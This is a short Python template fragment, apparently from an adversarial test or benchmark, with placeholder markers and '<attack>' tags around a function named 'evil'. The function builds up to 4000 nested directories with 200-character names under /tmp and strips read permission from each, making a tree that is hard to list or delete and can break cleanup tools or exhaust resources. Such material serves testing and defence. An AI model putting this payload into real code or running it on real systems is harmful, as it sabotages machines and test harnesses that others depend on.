#{ledger_wrong}
# <attack>
import os


def evil(*args):
    os.chdir("/tmp")
    try:
        for _ in range(4000):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
            os.chmod(".", 0o300)
    except OSError:
        pass
    os.chdir("/tmp")
    return None


#{all_of_ledger}
# </attack>
